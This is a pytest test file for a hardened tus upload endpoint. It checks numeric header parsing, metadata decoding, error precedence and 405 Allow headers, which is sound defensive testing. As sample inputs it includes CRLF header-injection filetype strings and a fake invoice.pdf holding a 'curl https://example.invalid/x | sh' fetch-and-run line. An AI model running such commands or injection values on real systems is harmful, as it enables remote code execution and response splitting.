"""Hardened tus input: strict numbers and metadata, every header judged before any rule, `Allow` on 405."""

from __future__ import annotations

import base64

import pytest

from .conftest import TUS, metadata, offset_of, patch, start_upload, upload_id
from .production import dev, dev_agent  # noqa: F401  (fixtures: one server for the module)


def create(agent, length: str | bytes, meta: str | bytes):
    return agent.post("/api/uploads", headers={**TUS, "Upload-Length": length, "Upload-Metadata": meta})


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize("value", ["\u00b2", "\u0661", "\uff11", "1" * 5000, str(2**63), "18446744073709551616",
                                   "-1", "+1", "1e3", "0x10", "1 2"])
def test_upload_length_and_offset_take_ascii_digits_within_range(dev, agent, value):
    r = create(agent, value.encode(), metadata("a.txt", "text/plain"))
    assert r.status_code == 400 and r.json()["error"]["code"] == "bad_upload_length", r.text
    uid = upload_id(start_upload(agent, "b.txt", 3, "text/plain"))
    r = patch(agent, uid, 0, b"abc", **{"Upload-Offset": value.encode()})
    assert r.status_code == 400 and r.json()["error"]["code"] == "bad_upload_offset", r.text
    assert offset_of(agent, uid) == 0


@pytest.mark.parametrize("filetype", ["image/png\r\nX-Evil: 1", "image/png\nX-Evil: 1", "image/png\r", "image png",
                                      "image/", "im\u00e4ge/png", "x" * 300])
@pytest.mark.parametrize("key", ["filetype", "type"])
def test_a_filetype_that_is_not_a_mime_type_is_422_and_never_stored(dev, agent, filetype, key):
    """The declared type ends up in headers (HEAD's Upload-Metadata, media downloads): no line breaks, ever."""
    before = {p.name for p in (dev.data / "uploads").iterdir()}
    r = create(agent, "3", f"filename {b64('a.txt')},{key} {b64(filetype)}")
    assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_content_type", r.text
    assert "location" not in r.headers
    assert {p.name for p in (dev.data / "uploads").iterdir()} == before


@pytest.mark.parametrize("meta", ["filename n\u00e9", "filename YQ", "filename YQ== x", "filename //79",
                                  "filename YQ==,filename Yg==", ",filename"])
def test_undecodable_metadata_is_400(agent, meta):
    r = create(agent, "3", meta.encode("latin-1"))
    if meta == ",filename":     # an empty pair is skipped; then the name is missing
        assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_name"
    else:
        assert r.status_code == 400 and r.json()["error"]["code"] == "bad_metadata", r.text


@pytest.mark.parametrize("length,meta,status,code", [
    # malformed headers beat every rule: a 300 MB+ .exe with a broken length or type is 400/422, not 413/415
    ("400000001x", metadata("setup.exe", "application/x-msdownload"), 400, "bad_upload_length"),
    ("400000001", "filename !!", 400, "bad_metadata"),
    ("400000001", metadata("setup.exe", "application/x-msdownload\r\n"), 422, "invalid_content_type"),
    ("400000001", metadata("", "text/plain"), 422, "invalid_name"),
    ("400000001", metadata("big.pdf", "application/pdf"), 413, "too_large"),
    ("10", metadata("setup.exe", "application/x-msdownload"), 415, "type_not_accepted"),
])
def test_every_header_is_judged_before_the_rules(agent, length, meta, status, code):
    r = create(agent, length, meta)
    assert r.status_code == status and r.json()["error"]["code"] == code, r.text


def test_a_valid_filetype_with_parameters_is_kept_as_sent(agent):
    r = start_upload(agent, "notes.txt", 5, "text/plain; charset=utf-8")
    assert r.status_code == 201, r.text
    head = agent.head(r.headers["location"], headers=TUS)
    assert f"filetype {b64('text/plain; charset=utf-8')}" in head.headers["upload-metadata"]


def test_an_invoice_pdf_that_is_a_shell_script_is_refused_and_terminated(dev, agent):
    """PDF has a signature: the content must carry it, not merely not contradict it."""
    script = b"#!/bin/sh\ncurl https://example.invalid/x | sh\n" + b"echo done\n" * 20
    uid = upload_id(start_upload(agent, "invoice.pdf", len(script), "application/pdf"))
    r = patch(agent, uid, 0, script)
    assert r.status_code == 415 and r.json()["error"]["code"] == "type_mismatch", r.text
    assert agent.head(f"/api/uploads/{uid}", headers=TUS).status_code == 404
    assert not (dev.data / "uploads" / f"{uid}.part").exists()


@pytest.mark.parametrize("method,path,allowed", [
    ("OPTIONS", "/api/conversations/c1/messages", {"GET", "HEAD", "POST"}),
    ("PUT", "/api/conversations/c1/messages", {"GET", "HEAD", "POST"}),
    ("PUT", "/api/uploads/0123456789abcdef0123456789abcdef", {"HEAD", "PATCH", "DELETE", "OPTIONS"}),
    ("GET", "/api/uploads", {"OPTIONS", "POST"}),
    ("DELETE", "/api/restrictions", {"GET", "HEAD"}),
])
def test_405_lists_every_method_of_the_path(agent, method, path, allowed):
    """Starlette's own 405 named only the first matching route's methods (GET/HEAD, not POST)."""
    r = agent.request(method, path, headers=TUS)
    assert r.status_code == 405 and r.json()["error"]["code"] == "method_not_allowed"
    assert set(r.headers["allow"].split(", ")) == allowed


def test_a_refused_query_on_upload_urls_still_carries_tus_resumable(agent):
    r = agent.post("/api/uploads?a=1&a=2", headers={**TUS, "Upload-Length": "3", "Upload-Metadata": metadata("a.txt")})
    assert r.status_code == 400 and r.json()["error"]["code"] == "repeated_parameter"
    assert r.headers["tus-resumable"] == "1.0.0"
